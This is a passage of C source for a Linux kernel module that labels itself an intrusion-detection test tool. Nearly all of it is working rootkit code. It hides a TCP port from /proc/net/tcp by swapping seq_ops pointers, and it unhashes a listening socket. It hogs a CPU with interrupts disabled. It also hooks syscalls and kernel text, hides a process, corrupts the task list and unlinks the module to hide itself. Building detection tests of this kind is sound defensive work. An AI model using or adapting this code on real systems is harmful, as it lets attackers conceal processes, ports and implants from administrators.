		unregister_kprobe(&probe);
	probed = false;
}

static void text_undo(void)
{
	kprobe_detach();
	inline_unpatch();
}
#else
/* vbar=, inline_hook= and kprobe_hook= attack arm64 code (VBAR_EL1, A64 branches, a kprobe on
 * the arm64 handler): elsewhere they refuse to load. */
static int not_here(const char *what)
{
	pr_err(PFX "%s=1: not supported on this architecture\n", what);
	return -EOPNOTSUPP;
}

static int redirect_vectors(void) { return not_here("vbar"); }
static void restore_vectors(void) { }
static int inline_patch(void) { return not_here("inline_hook"); }
static int kprobe_attach(void) { return not_here("kprobe_hook"); }
static void text_undo(void) { }
#endif /* CONFIG_ARM64 */

/* -- hide_port: the /proc/net/tcp[6] entries' seq_ops -------------------------------- */

struct port_hook {
	const char *path;
	const struct seq_operations **slot;	/* the entry's seq_ops member, once hooked */
	const struct seq_operations *orig;
	struct seq_operations copy;
};

static struct port_hook port_hooks[2] = { { .path = "/proc/net/tcp" },
					  { .path = "/proc/net/tcp6" } };

/* Every sock a TCP seq file shows (listening, established, time-wait, request) starts with
 * a sock_common. */
static bool port_hidden(void *v)
{
	const struct sock_common *sk = v;
	return v != SEQ_START_TOKEN && (sk->skc_num == hide_port ||
					ntohs(sk->skc_dport) == hide_port);
}

static int show4(struct seq_file *seq, void *v)
{
	return port_hidden(v) ? 0 : port_hooks[0].orig->show(seq, v);
}

static int show6(struct seq_file *seq, void *v)
{
	return port_hidden(v) ? 0 : port_hooks[1].orig->show(seq, v);
}

/* A word in the first 40 of a slab object at p equal to want; NULL if none. */
static void **find_word(void *p, const void *want)
{
	void **w = p;
	if (!virt_addr_valid(p))
		return NULL;
	for (int i = 0; i < 40; i++)
		if (w[i] == want)
			return &w[i];
	return NULL;
}

static int hook_port_entry(struct port_hook *h, int (*show)(struct seq_file *, void *))
{
	struct file *f = filp_open(h->path, O_RDONLY, 0);
	const struct seq_operations *ops;
	struct inode *inode;
	void *data;
	int err = -ENOENT;

	if (IS_ERR(f)) {
		pr_err(PFX "hide_port: cannot open %s\n", h->path);
		return PTR_ERR(f);
	}
	ops = ((struct seq_file *)f->private_data)->op;
	inode = file_inode(f);
	data = pde_data(inode);
	/* struct proc_inode ends with the inode; its pde pointer is a few words before. */
	for (int i = 1; i <= 8 && err; i++) {
		void *pde = ((void **)inode)[-i];
		void **slot = find_word(pde, ops);
		if (slot && find_word(pde, data)) {
			h->orig = ops;
			h->copy = *ops;
			h->copy.show = show;
			h->slot = (const struct seq_operations **)slot;
			WRITE_ONCE(*h->slot, &h->copy);
			pr_info(PFX "hid port %d from %s\n", hide_port, h->path);
			err = 0;
		}
	}
	if (err)
		pr_err(PFX "hide_port: no proc entry found for %s\n", h->path);
	filp_close(f, NULL);
	return err;
}

static void unhook_ports(void)
{
	for (int i = 0; i < ARRAY_SIZE(port_hooks); i++)
		if (port_hooks[i].slot) {
			WRITE_ONCE(*port_hooks[i].slot, port_hooks[i].orig);
			port_hooks[i].slot = NULL;
		}
}

static int hook_ports(void)
{
	int err = hook_port_entry(&port_hooks[0], show4);
	if (!err && IS_ENABLED(CONFIG_IPV6))
		err = hook_port_entry(&port_hooks[1], show6);
	return err;
}

/* -- unhash_port: a listener taken out of tcp_hashinfo ---------------------------------- */

#if IS_ENABLED(CONFIG_INET)
static struct sock *unhashed;

static int unhash_listener(void)
{
	struct sock *sk;

	rcu_read_lock();
	/* tcp_hashinfo itself is not exported on 6.12; init_net points at it (6.1+). */
	sk = __inet_lookup_listener(&init_net, init_net.ipv4.tcp_death_row.hashinfo, NULL, 0, 0, 0,
				    htonl(INADDR_LOOPBACK), unhash_port, 0, 0);
	if (sk && !refcount_inc_not_zero(&sk->sk_refcnt))
		sk = NULL;
	rcu_read_unlock();
	if (!sk) {
		pr_err(PFX "unhash_port: no listener on port %d\n", unhash_port);
		return -ENOENT;
	}
	inet_unhash(sk);
	unhashed = sk;
	pr_info(PFX "unhashed the listener on port %d\n", unhash_port);
	return 0;
}

static void rehash_listener(void)
{
	if (!unhashed)
		return;
	inet_hash(unhashed);
	sock_put(unhashed);
	unhashed = NULL;
}
#else
static int unhash_listener(void)
{
	pr_err(PFX "unhash_port: this kernel has no TCP/IP\n");
	return -EOPNOTSUPP;
}

static void rehash_listener(void) { }
#endif

static struct task_struct *hog_task;

/* Waits (sleeping) for hog_hold, then holds its CPU with interrupts masked until hog_hold is
 * 0 again or hog_ms have passed (ktime_get reads the clocksource, which needs no interrupt). */
static int hog_fn(void *unused)
{
	ktime_t start, end;
	bool released;

	while (!READ_ONCE(hog_hold)) {
		if (kthread_should_stop())
			return 0;
		msleep(20);
	}
	local_irq_disable();
	start = ktime_get();
	end = ktime_add_ms(start, hog_ms);
	pr_info(PFX "holding cpu %d\n", smp_processor_id());
	while (READ_ONCE(hog_hold) && ktime_before(ktime_get(), end))
		cpu_relax();
	released = !READ_ONCE(hog_hold);
	local_irq_enable();
	pr_info(PFX "held cpu %d for %lld ms (%s)\n", smp_processor_id(),
		ktime_ms_delta(ktime_get(), start), released ? "released" : "time limit");
	while (!kthread_should_stop()) {
		set_current_state(TASK_INTERRUPTIBLE);
		if (!kthread_should_stop())
			schedule();
		__set_current_state(TASK_RUNNING);
	}
	return 0;
}

static int start_hog(void)
{
	if (hog_ms < 0 || hog_cpu < 0 || hog_cpu >= nr_cpu_ids || !cpu_online(hog_cpu))
		return -EINVAL;
	hog_task = kthread_create(hog_fn, NULL, "mamoru_hog");
	if (IS_ERR(hog_task)) {
		int err = PTR_ERR(hog_task);

		hog_task = NULL;
		return err;
	}
	kthread_bind(hog_task, hog_cpu);
	wake_up_process(hog_task);
	return 0;
}

static void stop_hog(void)
{
	if (hog_task)
		kthread_stop(hog_task);
	hog_task = NULL;
}

static void undo(void)
{
	stop_hog();
	rehash_listener();
	unhook_ports();
	text_undo();
	restore_vectors();
	restore_banner();
	unhook_more();
	unhide_task();
	unhook_syscall();
}

static int __init mamoru_attack_init(void)
{
	int err = 0;

	if (sct) {
		err = hook_syscall();
		if (!err)
			err = hook_more();
	}
	if (!err && hide_pid)
		err = hide_task();
	if (!err && loop_pid)
		err = corrupt_task_list();
	if (!err && banner)
		err = change_banner();
	if (!err && vbar)
		err = redirect_vectors();
	if (!err && inline_hook)
		err = inline_patch();
	if (!err && kprobe_hook)
		err = kprobe_attach();
	if (!err && hide_port)
		err = hook_ports();
	if (!err && unhash_port)
		err = unhash_listener();
	if (!err && hog_ms)
		err = start_hog();
	if (err) {
		undo();
		return err;
	}
	if (hide_self) {	/* last: nothing may fail once the module is off the list */
		stop_machine(unlink_module, THIS_MODULE, NULL);
		pr_info(PFX "hid module\n");
	}
	return 0;
}

static void __exit mamoru_attack_exit(void)
{
	undo();
}

module_init(mamoru_attack_init);
module_exit(mamoru_attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Mamoru IDS test tool: hooks a system call or kernel text, hides a process, a port and itself");
